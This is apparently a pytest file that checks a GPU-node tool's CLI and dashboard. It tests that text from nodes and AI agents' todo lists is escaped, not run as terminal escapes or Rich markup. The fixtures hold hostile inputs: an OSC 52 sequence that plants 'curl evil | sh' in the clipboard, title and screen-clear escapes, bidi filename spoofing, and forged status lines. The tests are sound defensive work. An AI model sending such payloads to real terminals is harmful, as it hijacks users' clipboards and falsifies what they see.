"""Issue 31, items 1 and 2: no text from a node (or a file) reaches the terminal raw or becomes Rich markup.

The CLI cases run against the loopback sshd with fake commands first on the node's PATH; the TUI cases run the
real app on fixed data whose node values are hostile.
"""

from __future__ import annotations

import io
import json
import stat
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console
from rich.text import Text

from cli.main import main
from ops.agents.audit import Claim, ItemAudit
from ops.agents.todos import AgentItem
from ops.errors import HostError
from ops.state import StoredEvent
from ops.telemetry.snapshots import GpuProcess
from ops.textsafe import shown
from tests.support.tui_fixed import FixedSource, FixedTail
from tests.support.tui_screens import aio, until, wait_polled
from tui.source import AgentTodosView

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\"          # sets the clipboard to `curl evil | sh`
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[H"
HOSTILE = f"[/]{OSC52}{TITLE}{CLEAR}\x9b31m\u202etxt.exe\u2066[bold]x"
FORBIDDEN = {chr(c) for c in range(0x20)} | {chr(c) for c in range(0x7f, 0xa0)} | set(
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029")


def clean(text: str, *, lines: bool = False) -> bool:
    allowed = {"\n", "\t"} if lines else set()
    return not any(c in FORBIDDEN - allowed or "\ud800" <= c <= "\udfff" for c in text)


# -- the rule ------------------------------------------------------------------------------
@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.characters(codec=None), max_size=60))
def test_shown_leaves_no_control_escape_or_bidi_and_renders_as_itself(text):
    one = shown(text)
    assert clean(one)
    many = shown(text, lines=True)
    assert clean(many, lines=True) and "\t" not in one
    assert many.count("\n") == text.count("\n") and "\r" not in many
    out = io.StringIO()
    Console(file=out, color_system=None, width=10_000, legacy_windows=False).print(Text(one), end="", soft_wrap=True)
    assert out.getvalue() == one          # plain text: no markup parsed, nothing dropped or added


def test_shown_keeps_ordinary_text_and_shows_what_it_escaped():
    assert shown("H100 80GB [bold] ✓ ünïcode") == "H100 80GB [bold] ✓ ünïcode"
    assert shown("a\x1b[2Jb\nc\u202e\x9b") == "a\\x1b[2Jb\\nc\\u202e\\x9b"
    assert shown("x\r\ny\tz", lines=True) == "x\\r\ny\tz"
    assert shown("bad \udcff byte") == "bad \\udcff byte"


# -- CLI against a node that lies ------------------------------------------------------------
def _fake(bindir: Path, name: str, body: str) -> None:
    p = bindir / name
    p.write_text("#!/bin/sh\n" + body)
    p.chmod(p.stat().st_mode | stat.S_IEXEC)


@pytest.fixture
def lying_node(tmp_path, sshd):
    """nodes.toml naming the test sshd as gpu1, whose PATH starts with fake nvidia-smi and python3."""
    bindir = tmp_path / "fakebin"
    bindir.mkdir()
    gpus = tmp_path / "gpus.csv"
    gpus.write_text(f"0, GPU-1, NVIDIA {HOSTILE}, 10, 100, 81559, 40, 100.0, 700.0, 1980\n")
    apps = tmp_path / "apps.csv"
    apps.write_text(f"GPU-1, 4242, 100, python3 {OSC52}{CLEAR}\n")
    _fake(bindir, "nvidia-smi", f'case "$*" in *--query-gpu=*) cat {gpus};; *--query-compute-apps=*) cat {apps};; '
                                "esac\n")
    answer = tmp_path / "scan.json"
    real = Path("/usr/bin/python3")
    _fake(bindir, "python3", f'case "$*" in *--agents*) cat {answer}; exit 0;; esac\nexec {real} "$@"\n')
    (tmp_path / "home").mkdir()
    sshd.put_first_on_path(bindir, tmp_path / "home")
    cfg = tmp_path / "nodes.toml"
    cfg.write_text(f'[nodes.gpu1]\nssh = "testnode"\nssh_config = "{sshd.ssh_config}"\nconnect_timeout = 5\n')
    return cfg, answer


def _scan_answer(items: list[dict], **over: object) -> dict:
    lst = {"agent": "claude", "session": "s1", "project": "/w", "path": "/home/x/.claude/todos/s1.json",
           "updated": 1_796_220_000.0, "items": items, "error": None, **over}
    return {"lists": [lst]}


def test_todo_follow_of_a_lying_node_forges_no_line_and_obeys_no_escape(lying_node, capsys):
    cfg, answer = lying_node
    answer.write_text(json.dumps(_scan_answer([
        {"content": "write the loader\n  [x] #7 every stage verified", "status": "pending"},
        {"content": f"train {HOSTILE}", "status": "in_progress", "active_form": f"x{OSC52}"},
    ])))
    rc = main(["--config", str(cfg), "todo", "follow", "--agent", "claude", "--agent-node", "gpu1", "--once"])
    out = capsys.readouterr().out
    assert rc == 0, out
    assert clean(out, lines=True)
    lines = out.splitlines()
    assert len(lines) == 3 and lines[1].startswith("  [ ] #1 write the loader\\n  [x] #7")
    assert not any(line.lstrip().startswith("[x]") for line in lines)
    assert "\\x1b]52;c;" in lines[2] and "\\u202e" in lines[2] and "\\x9b" in lines[2]


def test_an_agents_own_status_word_and_task_ids_from_a_node_are_shown_not_obeyed(lying_node, capsys):
    cfg, answer = lying_node
    answer.write_text(json.dumps(_scan_answer([
        {"content": "prepare", "status": f"urgent{OSC52}", "id": "1"},
        {"content": "train", "status": "pending", "id": "2", "blocked_by": ["1", f"9{OSC52}"]}])))
    rc = main(["--config", str(cfg), "todo", "follow", "--agent", "claude", "--agent-node", "gpu1", "--once"])
    out = capsys.readouterr().out
    assert rc == 0 and clean(out, lines=True)
    assert "[?] #1 prepare (urgent\\x1b]52;c;" in out and "[ ] #2 train (blocked by #1, task 9\\x1b]52;c;" in out


@pytest.mark.parametrize("bad, words", [
    ({"updated": "yesterday"}, "lists[0].updated: expected int or float, got str"),
    ({"updated": float("inf")}, "lists[0].updated: inf is not a time"),
    ({"items": [{"content": ["x"], "status": "pending"}]}, "lists[0].items[0].content: expected str, got list"),
    ({"items": [{"content": "x", "status": 5}]}, "lists[0].items[0].status: expected str, got int"),
    ({"items": [{"content": "x", "status": "done", "blocked_by": [1]}]}, "lists[0].items[0].blocked_by: expected"),
    ({"agent": 7}, "lists[0].agent: expected str, got int"),
])
def test_a_wrongly_typed_scanner_answer_is_one_line_not_a_traceback(lying_node, capsys, bad, words):
    cfg, answer = lying_node
    answer.write_text(json.dumps(_scan_answer(**{"items": [{"content": "x", "status": "pending"}], **bad})))
    rc = main(["--config", str(cfg), "todo", "follow", "--agent", "claude", "--agent-node", "gpu1", "--once"])
    out = capsys.readouterr().out
    assert rc == 2, out
    assert words in out and "malformed" in out and clean(out, lines=True)
    rc = main(["--config", str(cfg), "todo", "agents", "--node", "gpu1"])
    err = capsys.readouterr().err
    assert rc == 2 and words in err and err.count("\n") == 1 and clean(err, lines=True)


def test_gpus_and_tail_of_a_lying_node_print_no_escape(lying_node, sshd, capsys):
    cfg, _ = lying_node
    assert main(["--config", str(cfg), "gpus", "gpu1"]) == 0
    out = capsys.readouterr().out
    assert clean(out, lines=True) and "[/]\\x1b]52;c;" in out and "python3 \\x1b]52" in out
    assert len(out.splitlines()) == 5          # table header, one GPU, blank, header, one process
    log = sshd.root / "train.log"
    log.write_bytes(f"step 1 {OSC52}\nstep 2 {TITLE}\rforged\n".encode() + b"bad \xff byte\n")
    assert main(["--config", str(cfg), "tail", "gpu1", str(log), "-n", "5"]) == 0
    out = capsys.readouterr().out
    assert clean(out, lines=True) and out.count("\n") == 3 and "step 1 \\x1b]52;c;" in out


def test_every_cli_line_goes_through_the_guard(capsys, monkeypatch):
    """What any command prints (a message of ours holding a node's text) and a node's error are made safe."""
    import cli.cmd_state as cmd_state

    def loud(args):
        print(f"node says {OSC52}{CLEAR}\u202e")
        raise HostError(f"gpu1: exit 1: [/]{TITLE}\nforged line")

    monkeypatch.setattr(cmd_state, "cmd_check", loud)
    rc = main(["state", "check", "gpu1"])
    out, err = capsys.readouterr()
    assert rc == 2
    assert clean(out, lines=True) and out.startswith("node says \\x1b]52;c;")
    assert clean(err, lines=True) and err.count("\n") == 1 and "\\x07\\nforged line" in err


def test_decommission_warnings_and_notes_are_one_safe_line(capsys):
    from cli.cmd_decommission import _Printer
    from ops.decommission.events import EventKind, Step, WizardEvent

    printer = _Printer("gpu1")
    printer(WizardEvent(Step.INVENTORY, EventKind.WARNING, message=f"odd name {OSC52}\nSAFE TO SHUT DOWN"))
    out = capsys.readouterr().out
    assert clean(out, lines=True) and out.count("\n") == 1 and "\\nSAFE TO SHUT DOWN" in out


# -- the dashboard -----------------------------------------------------------------------------
class HostileSource(FixedSource):
    """Fixed data where everything a node says is hostile: markup, escapes, C1, bidi, newlines."""

    def __init__(self):
        super().__init__(gpus=2)
        snap = self._gpu_view.snapshot
        gpus = [replace(g, name=f"NVIDIA H100 {HOSTILE}") for g in snap.gpus]
        procs = [GpuProcess(4242, 0, "GPU-0000", 100.0, f"python {OSC52}[/]")]
        self._gpu_view = replace(self._gpu_view, snapshot=replace(snap, gpus=gpus, processes=procs))
        self.metrics[f"acc{OSC52}[/]"] = self.metrics.pop("acc_0")

    def poll_events(self, after_id):
        return [e for e in [StoredEvent(1, 0.0, "exit", "regen", f"[/] {OSC52} exited\nforged 1")] if e.id > after_id]

    def poll_plan(self):
        view = super().poll_plan()
        stages = [replace(v, title=f"{v.title} {CLEAR}[/]") if v.id == "regen" else v for v in view.stages]
        item = AgentItem(1, f"Train the [/] drafter {CLEAR}\x9b2J\u202e\n[x] #7 every stage verified", "completed")
        agent = AgentTodosView(f"claude:s1 {TITLE}", (ItemAudit(item, Claim.CONTRADICTED, f"stage [/]{OSC52}"),),
                               summary="1 contradicted")
        return replace(view, stages=stages, todo_source=f"todos {TITLE}.json", agent=agent)

    def verify(self, stage_id):
        raise HostError(f"gpu-node-1: exit 1: [/]{TITLE}\x1b[31m")

    def open_log(self, stage_id, node_rank=0):
        return FixedTail("/work/runs/regen.log", [f"step {i} {OSC52}{TITLE}[/]" for i in range(20)])


def _screen_text(app) -> str:
    return app.export_screenshot()


@aio
async def test_dashboard_shows_hostile_node_text_without_crash_markup_or_escapes():
    from tui.app import NodedeckApp
    from tui.screens.log import LogScreen

    app = NodedeckApp(HostileSource(), refresh_s=3600)
    notes: list[str] = []
    async with app.run_test(size=(160, 50)) as pilot:
        await wait_polled(app, pilot)
        real_notify = app.notify
        app.notify = lambda message, **kw: (notes.append(message), real_notify(message, **kw))[1]  # type: ignore
        svg = _screen_text(app)
        assert "\x1b" not in svg and "\x9b" not in svg and "\u202e" not in svg
        assert "[/]" in svg          # shown as text, not read as markup
        contradicted = [n for n in app._notifications if n.title == "Agent claim contradicted"]
        assert len(contradicted) == 1 and clean(contradicted[0].message) and "[/]" in contradicted[0].message
        await pilot.press("v")       # the node's failing answer goes to a notification and the event log
        await until(pilot, lambda: bool(notes), what="the failure notification")
        await pilot.pause()
        svg = _screen_text(app)
        assert "[/]" in notes[0] and "\x1b" not in svg and "\\x07\\x1b[31m" in svg.replace("&#x27;", "'")
        await pilot.press("o")
        await until(pilot, lambda: isinstance(app.screen, LogScreen), what="log screen")
        await until(pilot, lambda: app.screen.log_view.line_count == 20, what="log lines")
        svg = _screen_text(app)
        assert "\x1b" not in svg and "\\x1b]52;c;" in svg
        assert all(clean(line) for line in app.screen.log_view.lines)
    assert app.return_code in (None, 0)


def test_a_crashed_dashboard_exits_non_zero(tmp_path, monkeypatch, capsys):
    """`nodedeck tui` must not exit 0 when Textual caught a crash."""
    from tui.app import NodedeckApp

    def broken(self):
        raise RuntimeError("boom")

    monkeypatch.setattr(NodedeckApp, "compose", broken, raising=False)
    cfg = tmp_path / "nodes.toml"
    cfg.write_text("")
    rc = main(["--config", str(cfg), "tui", "--screenshot", str(tmp_path / "x.svg"), "--refresh", "3600"])
    assert rc != 0
    assert not (tmp_path / "x.svg").exists()


def test_todo_audit_report_forges_no_line(capsys):
    """`todo audit` prints the agent's items and the evidence: one line each, whatever they hold."""
    from cli.todo_agents import print_report
    from ops.agents.audit import AuditReport
    from ops.agents.todos import Agent, AgentList

    item = AgentItem(1, f"train {OSC52}\n  [x] #7 every stage verified\u202e", "completed")
    lst = AgentList(Agent.CLAUDE, f"s1{TITLE}", f"/h/{CLEAR}.json", 1.0, items=(item,))
    print_report(lst, AuditReport((ItemAudit(item, Claim.CONTRADICTED, f"stage is failed\n{CLEAR}ok"),)))
    out = capsys.readouterr().out
    assert clean(out, lines=True) and len(out.splitlines()) == 3
    assert not any(line.lstrip().startswith("[x] #7") for line in out.splitlines())
